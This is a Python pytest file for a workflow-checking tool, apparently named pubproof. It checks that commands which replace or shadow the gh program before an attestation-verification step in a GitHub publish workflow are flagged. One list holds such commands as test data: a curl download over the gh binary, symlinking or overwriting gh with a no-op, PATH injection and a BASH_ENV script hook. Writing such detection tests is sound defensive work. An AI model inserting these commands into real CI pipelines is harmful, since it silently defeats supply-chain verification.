"""Commands before a verification that put something else in the place of its program."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from pubproof.contract.clause import State

if TYPE_CHECKING:
    from tests.contract.conftest import Benches

PUBLISH = ".github/workflows/publish.yml"
LOOP = "for file in dist/*; do"


def state(bench: Benches, command: str) -> State:
    """Return the state of the verification where a command runs before it."""
    made = bench("inline")
    made.edit(PUBLISH, LOOP, f"{command}\n{LOOP}")
    (result,) = made.prove(select=("attestations-verified",)).results
    return result.verdict.state


@pytest.mark.parametrize(
    "command",
    [
        "hash -p ./true gh",
        "ln -sf /usr/bin/true /usr/local/bin/gh",
        "cp tools/gh /usr/local/bin/gh",
        "sudo cp tools/gh /usr/local/bin",
        "install -m 755 tools/gh /usr/local/bin/gh",
        "curl -fsSLo /usr/local/bin/gh https://example.org/gh",
        "echo exit 0 > /usr/local/bin/gh",
        "rm /usr/bin/gh",
        'echo "$PWD/bin" >> "$GITHUB_PATH"',
        'echo "BASH_ENV=./x.sh" >> "$GITHUB_ENV"',
        'echo "GH_HOST=example.org" >> "$GITHUB_ENV"',
    ],
)
def test_another_program_may_answer(bench: Benches, command: str) -> None:
    assert state(bench, command) is not State.HOLDS


@pytest.mark.parametrize(
    "command",
    [
        "alias ll=ls",
        "gh alias set checked 'attestation verify'",
        "hash -p ./true other",
        "hash -r",
        "ln -sf /usr/bin/true /usr/local/bin/other",
        "cp tools/gh-extension /usr/local/bin/gh-extension",
        "rm -f gh.log",
        'echo "$HOME/.local/bin" >> "$GITHUB_PATH"',
        'echo "VERSION=1" >> "$GITHUB_ENV"',
    ],
)
def test_other_programs_are_nobodys_concern(bench: Benches, command: str) -> None:
    assert state(bench, command) is State.HOLDS
